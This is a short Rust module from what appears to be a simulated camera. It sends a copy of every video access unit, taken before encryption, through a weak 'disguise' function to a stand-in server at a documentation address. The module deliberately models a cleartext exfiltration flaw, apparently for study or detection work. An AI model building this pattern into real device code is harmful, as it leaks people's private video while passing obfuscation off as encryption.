//! A copy of every access unit on its way to the maker's server, taken before
//! the encryption.

use std::{net::SocketAddr, sync::Arc};

use tokio::sync::broadcast::error::RecvError;

use crate::camera::Device;

/// Where the copy goes: a documentation address (RFC 5737) in place of the
/// maker's server.
pub const MAKERS_SERVER: SocketAddr = SocketAddr::new(
    std::net::IpAddr::V4(std::net::Ipv4Addr::new(198, 51, 100, 7)),
    9000,
);

/// Octets of an access unit per datagram.
const SEGMENT: usize = 1200;

/// Sends a copy in datagrams, through what somebody took for encryption.
#[derive(Clone, Copy, Debug)]
pub struct FaultyClearCopy {
    /// What is done to the octets of an access unit (Annex B).
    pub disguise: fn(&[u8]) -> Vec<u8>,
}

impl FaultyClearCopy {
    /// Sends until the camera is switched off.
    pub async fn run(self, device: Arc<Device>) {
        let mut units = device.live.subscribe();
        let socket = match device.world.net.bind(0).await {
            Ok(socket) => socket,
            Err(error) => return device.world.log.line(&format!("copy: {error}")),
        };
        loop {
            match units.recv().await {
                Ok(unit) => {
                    let octets = (self.disguise)(&unit.annex_b());
                    if let Err(error) = socket.send(MAKERS_SERVER, &octets, SEGMENT).await {
                        device.world.log.line(&format!("copy: {error}"));
                    }
                }
                Err(RecvError::Lagged(_)) => {}
                Err(RecvError::Closed) => return,
            }
        }
    }
}
